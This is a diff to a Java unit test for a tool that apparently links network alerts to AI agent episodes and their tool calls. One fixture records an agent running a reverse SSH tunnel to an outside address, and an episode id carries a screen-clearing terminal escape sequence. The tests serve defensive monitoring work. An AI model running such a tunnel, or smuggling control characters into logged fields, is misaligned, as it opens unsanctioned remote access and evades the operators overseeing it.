@@ -9,6 +9,7 @@ import io.vigil.records.Fixtures;
 import io.vigil.records.IncidentState;
 import io.vigil.records.Printable;
 import io.vigil.records.Reason;
+import io.vigil.records.TransitionCause;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 
@@ -69,18 +70,63 @@ class DemoLinesTest {
                         .build()))
                 .build();
 
-        assertThat(Demo.behind(open))
+        assertThat(Demo.behind(open, null))
                 .isEqualTo("       behind it: episode ep-1207\\u001b[2J on rollout-3, step 14: bash"
                         + " `ssh -f -N -R 2222:localhost:22 agent@203.0.113.9` (tool call started 1.8 s before the first"
                         + " packet to 203.0.113.9:22; command names 203.0.113.9; command contains ssh -R)");
-        assertThat(Demo.behind(Fixtures.alertBuilder()
-                        .setIncidentState(IncidentState.OPEN)
-                        .build()))
+        assertThat(Demo.behind(
+                        Fixtures.alertBuilder()
+                                .setIncidentState(IncidentState.OPEN)
+                                .build(),
+                        null))
                 .isNull();
-        assertThat(Demo.behind(Alert.newBuilder(open)
-                        .setIncidentState(IncidentState.CLOSE)
-                        .build()))
+        assertThat(Demo.behind(
+                        Alert.newBuilder(open)
+                                .setIncidentState(IncidentState.CLOSE)
+                                .build(),
+                        null))
                 .as("a CLOSE says what it was, not again what began it")
+                .isNull();
+        Alert update = Alert.newBuilder(open)
+                .setIncidentState(IncidentState.UPDATE)
+                .setTransitionCauses(List.of(TransitionCause.ONGOING))
+                .build();
+        assertThat(Demo.behind(update, "ep-1207\u001b[2J"))
+                .as("an update that names the episode told before says nothing again")
+                .isNull();
+        assertThat(Demo.behind(update, "ep-benign"))
+                .as("an update that names a new episode by its commands says so")
+                .startsWith("       behind it: episode ep-1207");
+    }
+
+    /** A call named only for starting near the packet is said to be that, and a later update names no such call. */
+    @Test
+    void aCallNamedOnlyForItsTimeIsNotSaidToBeBehindIt() {
+        AgentEpisode near = AgentEpisode.newBuilder()
+                .setEpisodeId("ep-7")
+                .setReason("tool call started 0.4 s before the first packet to 192.0.2.10:443")
+                .setCalls(List.of(AgentCall.newBuilder()
+                        .setStep(3L)
+                        .setTool("bash")
+                        .setCommand("pytest -q")
+                        .setStartTs(Fixtures.BEGINNING)
+                        .setEndTs(Fixtures.BEGINNING)
+                        .setReason("tool call started 0.4 s before the first packet to 192.0.2.10:443")
+                        .build()))
+                .build();
+        Alert open = Fixtures.alertBuilder()
+                .setIncidentState(IncidentState.OPEN)
+                .setAgentContext(List.of(near))
+                .build();
+
+        assertThat(Demo.behind(open, null))
+                .startsWith("       nearest call in time (its command says nothing of it): episode ep-7");
+        assertThat(Demo.behind(
+                        Alert.newBuilder(open)
+                                .setIncidentState(IncidentState.UPDATE)
+                                .setTransitionCauses(List.of(TransitionCause.ONGOING))
+                                .build(),
+                        null))
                 .isNull();
     }
 }
